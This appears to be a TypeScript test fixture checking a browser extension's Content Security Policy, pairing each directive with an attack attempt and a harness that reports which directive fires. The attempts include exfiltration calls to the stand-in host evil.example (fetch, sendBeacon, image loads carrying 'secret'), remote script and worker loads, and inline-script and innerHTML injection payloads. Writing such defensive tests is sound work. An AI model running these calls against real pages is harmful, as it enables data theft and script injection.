/** What someone might try who got hold of a page of the extension, and the directive that ends it. */
export const attempts = [
  ['script-src-elem', "import('https://evil.example/x.js')"],
  ['connect-src', "fetch('https://evil.example/?secret')"],
  ['connect-src', "navigator.sendBeacon('https://evil.example/', 'secret')"],
  ['connect-src', "new WebSocket('wss://evil.example/')"],
  ['img-src', "new Image().src = 'https://evil.example/?secret'"],
  ['media-src', "new Audio('https://evil.example/x.ogg').load()"],
  ['font-src', "new FontFace('x', 'url(https://evil.example/x.woff2)').load()"],
  ['style-src-elem', "put('style', { textContent: '* { color: red }' })"],
  ['style-src-elem', "put('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })"],
  ['style-src-attr', "document.body.setAttribute('style', 'color: red')"],
  ['frame-src', "put('iframe', { src: 'https://evil.example/' })"],
  ['require-trusted-types-for', "put('object', { data: 'https://evil.example/' })"],
  ['base-uri', "put('base', { href: 'https://evil.example/' })"],
  ['form-action', "put('form', { action: 'https://evil.example/', target: '_blank' }).submit()"],
  ['require-trusted-types-for', "put('script', { textContent: 'globalThis.ran = true' })"],
  ['require-trusted-types-for', "put('script', { src: 'https://evil.example/x.js' })"],
  ['require-trusted-types-for', "document.body.setAttribute('onclick', 'globalThis.ran = true')"],
  ['require-trusted-types-for', 'document.body.innerHTML = \'<img src=x onerror="ran = true">\''],
  ['require-trusted-types-for', "setTimeout('globalThis.ran = true')"],
  ['require-trusted-types-for', "new Worker('https://evil.example/x.js')"],
  ['trusted-types', "trustedTypes.createPolicy('any', { createHTML: (text) => text })"],
] as const;

/** A script that makes an attempt in a page and gives the directive that it violates, as the page itself is told of it. */
export const watched = (attempt: string) => `new Promise((resolve) => {
    const put = (name, fields) => {
      const element = Object.assign(document.createElement(name), fields);
      document.body.append(element);
      return element;
    };
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve('nothing'), 5000);
    try {
      Promise.resolve(${attempt}).catch(() => undefined);
    } catch {
      // Told to the listener, too.
    }
  })`;
